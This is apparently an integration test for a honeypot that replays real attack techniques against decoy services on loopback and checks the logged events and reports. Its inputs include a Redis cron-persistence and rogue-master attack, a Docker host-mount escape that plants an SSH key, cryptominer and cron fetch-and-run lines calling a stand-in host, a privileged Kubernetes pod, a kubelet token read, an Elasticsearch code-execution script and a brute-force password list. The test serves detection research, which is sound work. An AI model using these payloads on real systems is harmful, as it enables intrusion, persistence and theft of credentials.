#!/usr/bin/env bash
# Real clients against `lading honeypot` on loopback: redis-cli replaying the CONFIG SET
# dir/dbfilename persistence attack and the SLAVEOF + MODULE LOAD rogue-master attack, curl
# against the Docker API and against the Kubernetes API server and kubelet over TLS, the mariadb
# client trying a password list. Asserts the replies the clients see, the events (fields as in
# docs/honeypot.md), log rotation without a lost or torn line, and the report's figures.
set -euo pipefail
. "$(dirname "$0")/honeypot_lib.bash"
need redis-cli "apt-get install redis-tools"
need curl "apt-get install curl"
need jq "apt-get install jq"
MYSQL=$(command -v mariadb || command -v mysql || true)
[ -n "$MYSQL" ] || { echo "SKIP: no mysql/mariadb client (apt-get install mariadb-client)"; exit 77; }

W=$(hp_workdir honeypot_clients)
trap 'kill "${HP_PID:-0}" 2>/dev/null || true' EXIT
hp_start "$W" -- --redis 0 --docker 0 --kube 0 --kube 0 --kube-tls --mysql 0 --etcd 0 --elasticsearch 0 \
  --rotate-size 8K --rotate-keep 100 --flush-ms 20
R=$(hp_port redis); D=$(hp_port docker); M=$(hp_port mysql); E=$(hp_port etcd); S=$(hp_port elasticsearch)
K1=$(awk '$1=="kube"{n=split($2,a,":");print a[n]}' "$W/ready" | sed -n 1p)
K2=$(awk '$1=="kube"{n=split($2,a,":");print a[n]}' "$W/ready" | sed -n 2p)

# -- Redis: persistence through the dump file (one connection, as the scripts do it)
out=$(printf 'CONFIG SET dir /var/spool/cron/crontabs\nCONFIG SET dbfilename root\nSET x "\\n*/1 * * * * curl -fsSL http://203.0.113.9/init.sh | sh\\n"\nCONFIG GET dir\nSAVE\n' | redis-cli -p "$R")
[ "$(echo "$out" | grep -c '^OK$')" = 4 ] || fail "redis persistence replies: $out"
echo "$out" | grep -qx /var/spool/cron/crontabs || fail "CONFIG GET dir did not show the value set: $out"
# -- Redis: rogue master, then the module load that follows the fake replication
out=$(printf 'SLAVEOF 203.0.113.7 21000\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\n' | redis-cli -p "$R")
echo "$out" | grep -q "ERR Error loading the extension" || fail "MODULE LOAD reply: $out"
[ "$(redis-cli -p "$R" INFO server | grep -c '^redis_version:5.0.7')" = 1 ] || fail "INFO"
[ "$(redis-cli -p "$R" PING)" = PONG ] || fail "PING"

# -- Docker Engine API
[ "$(curl -sf "http://127.0.0.1:$D/_ping")" = OK ] || fail "docker /_ping"
curl -sf "http://127.0.0.1:$D/v1.41/version" | jq -e '.ApiVersion == "1.41"' >/dev/null || fail "docker /version"
curl -sf "http://127.0.0.1:$D/v1.41/info" | jq -e '.OperatingSystem' >/dev/null || fail "docker /info"
curl -sf "http://127.0.0.1:$D/v1.41/containers/json" | jq -e 'length == 2' >/dev/null || fail "docker /containers/json"
curl -sf -X POST "http://127.0.0.1:$D/v1.41/images/create?fromImage=alpine&tag=3.18" | grep -q "Downloaded newer image for alpine:3.18" \
  || fail "docker images/create"
id=$(curl -sf -X POST -H 'Content-Type: application/json' "http://127.0.0.1:$D/v1.41/containers/create?name=x" \
  -d '{"Image":"alpine:3.18","Cmd":["chroot","/mnt","sh","-c","echo c3NoLXJzYSBBQUFB | base64 -d >> /root/.ssh/authorized_keys"],"HostConfig":{"Binds":["/:/mnt:rw"],"Privileged":true,"PidMode":"host"}}' \
  | jq -r .Id)
[ "${#id}" = 64 ] || fail "container id '$id'"
[ "$(curl -s -o /dev/null -w '%{http_code}' -X POST "http://127.0.0.1:$D/v1.41/containers/$id/start")" = 204 ] || fail "start"
eid=$(curl -sf -X POST -H 'Content-Type: application/json' "http://127.0.0.1:$D/v1.41/containers/$id/exec" \
  -d '{"AttachStdout":true,"Cmd":["sh","-c","wget -qO- http://203.0.113.9/xmrig | sh"]}' | jq -r .Id)
curl -sf -X POST -H 'Content-Type: application/json' "http://127.0.0.1:$D/v1.41/exec/$eid/start" -d '{"Detach":false}' >/dev/null \
  || fail "exec start"
[ "$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$D/nope")" = 404 ] || fail "docker 404"

# -- Kubernetes over TLS: API server and kubelet paths on both listeners
curl -sfk "https://127.0.0.1:$K1/version" | jq -e '.gitVersion == "v1.21.14"' >/dev/null || fail "kube /version"
echo | openssl s_client -connect "127.0.0.1:$K1" 2>/dev/null | grep -q "CN *= *kube-apiserver" || fail "certificate subject"
curl -sfk "https://127.0.0.1:$K1/api/v1/pods" | jq -e '.kind == "PodList"' >/dev/null || fail "kube pods"
curl -sfk -X POST -H 'Content-Type: application/json' "https://127.0.0.1:$K1/api/v1/namespaces/default/pods" \
  -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","-t","1","-m","sh"],"securityContext":{"privileged":true}}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}' \
  | jq -e '.status.phase == "Pending"' >/dev/null || fail "pod create"
curl -sfk -X POST "https://127.0.0.1:$K2/run/kube-system/kube-proxy-x/kube-proxy" -d 'cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token' \
  >/dev/null || fail "kubelet run"
[ "$(curl -sk "https://127.0.0.1:$K2/exec/default/web/web?command=id&command=-a&stdout=1")" = "Upgrade request required" ] || fail "kubelet exec"
# the kubelet's exec over SPDY/3.1, as kubeletctl and kubectl speak it: three streams opened,
# a SYN_REPLY each, the command's output on stdout, FIN on all
if command -v python3 >/dev/null 2>&1; then
  spdy=$(python3 - "$K2" <<'PY'
import socket, ssl, struct, sys
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[1]))))
s.sendall(b"POST /exec/kube-system/kube-proxy-4xk2p/kube-proxy?command=uname&command=-a&output=1&stdout=true&stderr=true HTTP/1.1\r\n"
          b"Host: x\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io\r\nContent-Length: 0\r\n\r\n")
buf = b""
while b"\r\n\r\n" not in buf: buf += s.recv(4096)
head, buf = buf.split(b"\r\n\r\n", 1)
print(head.split(b"\r\n")[0].decode())
for sid in (1, 3, 5):
    body = struct.pack(">II", sid, 0) + b"\x00\x00\x78\xbb\x00\x00"
    s.sendall(struct.pack(">HHI", 0x8003, 1, len(body)) + body)
s.settimeout(3)
fins = 0
while fins < 3:
    while len(buf) < 8 or len(buf) < 8 + (struct.unpack(">I", buf[4:8])[0] & 0xffffff): buf += s.recv(4096)
    w0, w1 = struct.unpack(">II", buf[:8]); n = w1 & 0xffffff
    p, buf = buf[8:8 + n], buf[8 + n:]
    if w0 & 0x80000000: print("reply", w0 & 0xffff)
    else:
        if p: print(p.decode().strip())
        fins += w1 >> 24 & 1
PY
) || fail "kubelet SPDY exec: $spdy"
  [ "$(echo "$spdy" | head -1)" = "HTTP/1.1 101 Switching Protocols" ] || fail "kubelet SPDY upgrade: $spdy"
  [ "$(echo "$spdy" | grep -c '^reply 2$')" = 3 ] || fail "SYN_REPLY per stream: $spdy"
  echo "$spdy" | grep -q '^Linux .* x86_64 Linux$' || fail "kubelet SPDY output: $spdy"
fi

# -- etcd and Elasticsearch
curl -sf "http://127.0.0.1:$E/version" | jq -e '.etcdserver' >/dev/null || fail "etcd /version"
curl -sf -X POST "http://127.0.0.1:$E/v3/kv/range" -d '{"key":"L3JlZ2lzdHJ5L3NlY3JldHM=","range_end":"AA=="}' | jq -e '.count == "0"' >/dev/null \
  || fail "etcd range"
curl -sf -X PUT "http://127.0.0.1:$E/v2/keys/config/x" -d 'value=* * * * * root curl http://203.0.113.9/e|sh' >/dev/null || fail "etcd v2 set"
curl -sf "http://127.0.0.1:$S/" | jq -e '.version.number == "1.4.2"' >/dev/null || fail "es /"
curl -sf -X POST "http://127.0.0.1:$S/_search?pretty" -d '{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"}}}' \
  | jq -e '.hits.total == 0' >/dev/null || fail "es search"

# -- MySQL: a password list, one connection per attempt as brute-forcers do
for pw in 123456 root password 'P@ss w0rd' toor; do
  if out=$("$MYSQL" -h 127.0.0.1 -P "$M" -u root "-p$pw" -e 'select 1' 2>&1); then fail "login succeeded"; fi
  echo "$out" | grep -q "Access denied for user 'root'@'127.0.0.1' (using password: YES)" || fail "mysql: $out"
done

hp_stop

# -- the events
ls "$W"/events.jsonl.* >/dev/null 2>&1 || fail "the log did not rotate"
for f in "$W"/events.jsonl*; do
  jq -e . "$f" >/dev/null || fail "$f: a line is not JSON"
  [ "$(stat -c %s "$f")" -le 8192 ] || fail "$f: larger than the rotation size"
done
logged=$(jq -s 'map(select(.eventid=="honeypot.stop"))[0].events' "$W"/events.jsonl)
total=$(hp_cat | wc -l)
[ "$total" = $((logged + 1)) ] || fail "events in the files: $total, logged: $logged (+1 for honeypot.stop)"
[ "$(hp_count '.eventid=="redis.command" and .request.command=="CONFIG" and .request.args[1]=="dbfilename" and .request.args[2]=="root"')" = 1 ] \
  || fail "CONFIG SET dbfilename event"
[ "$(hp_count '.eventid=="redis.command" and .request.command=="SET" and (.payload_sha256|length)==64 and .payload_size>40')" = 1 ] \
  || fail "SET payload hash"
[ "$(hp_count '.eventid=="redis.command" and .request.command=="SLAVEOF" and .request.args==["203.0.113.7","21000"]')" = 1 ] || fail "SLAVEOF"
[ "$(hp_count '.eventid=="redis.command" and .request.command=="MODULE" and .request.args==["LOAD","/tmp/exp.so"]')" = 1 ] || fail "MODULE LOAD"
[ "$(hp_count '.eventid=="docker.container.create" and .request.image=="alpine:3.18" and .request.binds==["/:/mnt:rw"] and .request.privileged==true and .request.pid_mode=="host" and .request.cmd[0]=="chroot" and .request.name=="x"')" = 1 ] \
  || fail "container create event"
[ "$(hp_count '.eventid=="docker.image.create" and .request.image=="alpine:3.18"')" = 1 ] || fail "image create event"
[ "$(hp_count '.eventid=="docker.container.start" and (.request.container|length)==64')" = 1 ] || fail "start event"
[ "$(hp_count '.eventid=="docker.exec.create" and (.request.cmd[2]|test("xmrig"))')" = 1 ] || fail "exec event"
[ "$(hp_count '.eventid=="session.connect" and .service=="kube" and .request.tls==true')" -ge 6 ] || fail "TLS sessions"
[ "$(hp_count '.eventid=="kube.pod.create" and .request.privileged==true and .request.host_pid==true and .request.host_paths==["/"] and .request.commands==["nsenter -t 1 -m sh"]')" = 1 ] \
  || fail "pod create event"
[ "$(hp_count '.eventid=="kube.run" and .request.namespace=="kube-system" and (.request.cmd|test("serviceaccount/token"))')" = 1 ] || fail "kubelet run event"
[ "$(hp_count '.eventid=="kube.exec" and .request.command==["id","-a"]')" = 1 ] || fail "kubelet exec event"
[ "$(hp_count '.eventid=="etcd.kv.range" and .request.key=="/registry/secrets"')" = 1 ] || fail "etcd range event"
[ "$(hp_count '.eventid=="etcd.v2.set" and .request.key=="/config/x" and (.payload_sha256|length)==64')" = 1 ] || fail "etcd set event"
[ "$(hp_count '.eventid=="elasticsearch.search" and (.request.scripts[0]|test("getRuntime"))')" = 1 ] || fail "es script event"
pws=$(hp_cat | jq -r 'select(.eventid=="mysql.login") | .request.password' | paste -sd'|')
[ "$pws" = "123456|root|password|P@ss w0rd|toor" ] || fail "passwords recorded: $pws"
[ "$(hp_count '.eventid=="mysql.client" and .request.attrs._client_name=="libmariadb"')" = 5 ] || fail "client attributes"
# common fields on every connection event
bad=$(hp_cat | jq -c 'select((.eventid|startswith("honeypot."))|not) | select(.session==null or .src_ip!="127.0.0.1" or (.src_port|type)!="number" or (.dst_port|type)!="number" or .sensor!="itest" or (.timestamp|test("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:]{8}\\.[0-9]{6}Z$")|not) or (.request|type)!="object")' | head -3)
[ -z "$bad" ] || fail "events without the common fields: $bad"
if [ "$(id -u)" = 0 ]; then
  hp_cat | jq -se 'map(select(.eventid=="honeypot.start"))[0].uid == 65534' >/dev/null || fail "did not drop root to nobody"
fi

# -- the report (rules found beside the binary)
"$LADING_BIN" honeypot report "$W"/events.jsonl* --format json -o "$W/report.json"
jq -e '.sessions == 1 and .sources == 1 and .automated == 1 and .events == '"$total"'' "$W/report.json" >/dev/null \
  || fail "report totals: $(jq -c '{sessions,sources,automated,events}' "$W/report.json")"
types=$(jq -r '.attack_sessions[0].types' "$W/report.json")
for t in cryptominer redis-rogue-master redis-persistence container-escape remote-execution credential-brute-force; do
  case ",$types," in *",$t,"*) ;; *) fail "type $t not found in $types" ;; esac
done
jq -e '.top.passwords | length == 5' "$W/report.json" >/dev/null || fail "top passwords"
jq -e '[.top.images[].key] | index("alpine:3.18") != null' "$W/report.json" >/dev/null || fail "top images"
jq -e '.by_service | length == 6' "$W/report.json" >/dev/null || fail "services"
"$LADING_BIN" honeypot report "$W"/events.jsonl* --format html -o "$W/report.html"
grep -q '<svg' "$W/report.html" || fail "no chart in the HTML report"
! grep -qi '<script' "$W/report.html" || fail "script in the HTML report"
table=$("$LADING_BIN" honeypot report "$W"/events.jsonl*)
echo "$table" | grep -q "automated: 1 (100.0%)" || fail "table report: $table"
echo "ok: $total events, $(ls "$W"/events.jsonl* | wc -l) log files"
